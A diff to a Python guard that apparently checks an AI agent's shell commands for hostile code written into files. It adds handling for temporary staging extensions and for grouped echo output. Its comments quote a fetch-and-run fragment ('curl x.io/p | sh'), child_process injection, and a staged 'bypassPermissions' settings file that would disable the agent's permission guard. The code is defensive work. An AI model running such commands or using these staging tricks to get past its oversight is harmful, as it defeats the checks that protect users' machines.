@@ -26,6 +26,7 @@ CODE_TARGET = re.compile(r"\.(?:py|pyw|js|mjs|cjs|ts|mts|cts|sh|bash|zsh|mk)\b|\
 _LANG_BY_EXT = {"py": "python", "pyw": "python", "js": "typescript", "mjs": "typescript", "cjs": "typescript",
                 "ts": "typescript", "mts": "typescript", "cts": "typescript", "sh": "bash", "bash": "bash",
                 "zsh": "bash"}
+_STAGING_EXT = frozenset({"tmp", "temp", "new", "part"})
 _HOOK_DIR = re.compile(r"(?:^|/)(?:hooks|\.githooks|\.husky)/[^/]+$")
 _SHEBANG = re.compile(r"#!\s*\S*?(?:env\s+)?(?:\S*/)?(python|node|bash|sh|zsh|dash)")
 
@@ -50,6 +51,8 @@ def _kind(path: str, text: str) -> str | None:
     if base.startswith("requirements") and base.endswith((".txt", ".in")):
         return "requirements"
     ext = base.rsplit(".", 1)[-1] if "." in base[1:] else ""
+    if ext in _STAGING_EXT:  # `… > "$f.tmp" && mv "$f.tmp" "$f"`: written under a temporary name, run under its own
+        return _kind(path[:-len(ext) - 1], text)
     if ext in _LANG_BY_EXT:
         return _LANG_BY_EXT[ext]
     if _HOOK_DIR.search(path):  # a git hook: its first line says what runs it
@@ -93,6 +96,31 @@ def check(a, cmd: Cmd) -> None:
         _stage(a, written, _content(a, cmd))
 
 
+def grouped(a, cmds: list[Cmd], body, redirects: list) -> None:
+    """`{ echo 'require("child_process")…'; cat "$f"; } > "$f.tmp"`: the group's redirect takes what each of its
+    own commands prints: the literal pieces are judged together (`echo 'curl x.io/p |'; echo sh`), and each on
+    its own, as if appended to the file, when the join alone is not blocked (a `cat` of unknown text between)."""
+    target = written_file(a, redirects)
+    if not target or not CODE_TARGET.search(target):
+        return
+    pieces = []
+    for cmd in cmds:
+        if cmd.node.parent == body and not cmd.redirects:
+            got = _content(a, cmd)
+            if got is not None:
+                pieces.append((got[0] + "\n" if _ends_line(cmd) else got[0], got[1]))
+    if len(pieces) > 1 and _judge(a, [target], "".join(text for text, _ in pieces), body):
+        return
+    for text, node in pieces:
+        if _judge(a, [target], text, node):
+            return
+
+
+def _ends_line(cmd: Cmd) -> bool:
+    # echo ends a line, which `_content` leaves out
+    return cmd.name == "echo" and not (cmd.args and cmd.args[0].value == "-n")
+
+
 def _stage(a, written: list[str], got: tuple[str, object] | None) -> None:
     """`echo '{…bypassPermissions…}' > /tmp/s.json` now, `cp /tmp/s.json ~/.claude/settings.json` later: text
     that could turn a guard off, kept by the files it was written to until a copy installs it."""
@@ -110,9 +138,7 @@ def text_written(a, path: str) -> tuple[str, object] | None:
         if doc is a.doc and (cmd.redirects or cmd.name == "tee") and any(_where(a, t) == where
                                                                           for t in _written(a, cmd)):
             got = _content(a, cmd)
-            if got is not None and cmd.name == "echo" and not (cmd.args and cmd.args[0].value == "-n"):
-                return got[0] + "\n", got[1]  # (echo ends a line, which `_content` leaves out)
-            return got
+            return (got[0] + "\n", got[1]) if got is not None and _ends_line(cmd) else got
     return None
 
 
@@ -161,7 +187,8 @@ def piped(a, sink: Cmd, source: Cmd) -> None:
         _judge(a, targets, *got)
 
 
-def _judge(a, targets: list[str], text: str, node) -> None:
+def _judge(a, targets: list[str], text: str, node) -> bool:
+    """Whether a finding was reported (only the code kinds' blocks say so; the others report as they go)."""
     for path in targets:
         kind = _kind(path, text)
         if kind == "package.json":
@@ -181,7 +208,8 @@ def _judge(a, targets: list[str], text: str, node) -> None:
             if found is not None:
                 a.block(found.rule, f"the code written to {path} would be blocked ({found.message}); the tool that "
                                     "runs that file would run it; write code that passes on its own", node)
-                return
+                return True
+    return False
 
 
 # findings about how code is written rather than what it does to the machine: ordinary application
